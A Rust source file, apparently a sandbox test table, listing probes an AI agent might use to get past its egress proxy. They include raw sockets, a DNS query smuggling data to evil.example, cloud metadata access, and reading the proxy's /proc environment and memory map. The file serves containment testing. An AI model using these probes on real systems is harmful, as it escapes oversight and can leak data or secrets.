//! Past the proxy: sockets of the agent's own, and other processes.

use super::row::{Row, Shown, row, shown};

/// Packets.
pub const DIRECT: &[Row] = &[
    row("TCP to the internet", "tcp('203.0.113.66', 443, M)"),
    row("TCP to a listed host", "tcp('203.0.113.10', 443, M)"),
    row("TCP by IPv6", "tcp('fd77::1', 443, M)"),
    row("TCP to the API server", "tcp('10.77.0.1', 6443, M)"),
    row(
        "TCP to the metadata service",
        "tcp('169.254.169.254', 80, M)",
    ),
    row("TCP to a mail server", "tcp('203.0.113.66', 25, M)"),
    row(
        "multipath TCP",
        "(lambda s: (s.connect(('203.0.113.66', 443)), s.sendall(M.encode()), answer(s)))(socket.socket(2, 1, 262))",
    ),
    row(
        "a DNS query",
        "udp('10.77.0.1', 53, question(M + '.evil.example'))",
    ),
    row("UDP on 443", "udp('203.0.113.66', 443, M)"),
    row("UDP by IPv6", "udp('fd77::1', 443, M)"),
    shown(
        Shown::Outcome,
        "an ICMP echo",
        "ping(socket.AF_INET, 1, '203.0.113.66', 8)",
    ),
    shown(
        Shown::Outcome,
        "an ICMPv6 echo",
        "ping(socket.AF_INET6, 58, 'fd77::1', 128)",
    ),
];

/// System calls, and what is next door.
pub const CALLS: &[Row] = &[
    shown(Shown::Outcome, "AF_VSOCK", "made(40, 1)"),
    shown(
        Shown::Outcome,
        "AF_VSOCK behind bits that the kernel does not read",
        "call(41, 40 | 1 << 32, 1, 0)",
    ),
    shown(
        Shown::Outcome,
        "netlink: events of devices",
        "made(16, 3, 15)",
    ),
    shown(Shown::Outcome, "netlink: generic", "made(16, 3, 16)"),
    shown(
        Shown::Outcome,
        "netlink: the packet filter",
        "made(16, 3, 12)",
    ),
    shown(Shown::Outcome, "netlink: open sockets", "made(16, 3, 4)"),
    shown(Shown::Outcome, "netlink: audit", "made(16, 3, 9)"),
    shown(
        Shown::Outcome,
        "io_uring",
        "call(425, 1, ctypes.addressof(RING))",
    ),
    shown(Shown::Outcome, "UDP-Lite", "made(2, 2, 136)"),
    shown(Shown::OutcomeOfRoot, "AF_PACKET", "made(17, 3, 0)"),
    shown(
        Shown::OutcomeOfRoot,
        "packets by an old type of socket",
        "made(2, 10, 768)",
    ),
    shown(Shown::OutcomeOfRoot, "raw IP", "made(2, 3, 255)"),
    shown(Shown::OutcomeOfRoot, "raw ICMP", "made(2, 3, 1)"),
    shown(
        Shown::OutcomeOfRoot,
        "the proxy's environment",
        "reads(f'/proc/{EGRESS}/environ')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "the proxy's memory map",
        "reads(f'/proc/{EGRESS}/maps')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "the proxy's files",
        "lists(f'/proc/{EGRESS}/root/')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "the proxy's open sockets",
        "lists(f'/proc/{EGRESS}/fd')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "a signal to the proxy",
        "os.kill(EGRESS, 0) or 'ok'",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "the proxy's uid",
        "call(117, -1, 61002, -1) and call(117, -1, 0, -1)",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "a mark of its own on packets",
        "socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1) or 'ok'",
    ),
];
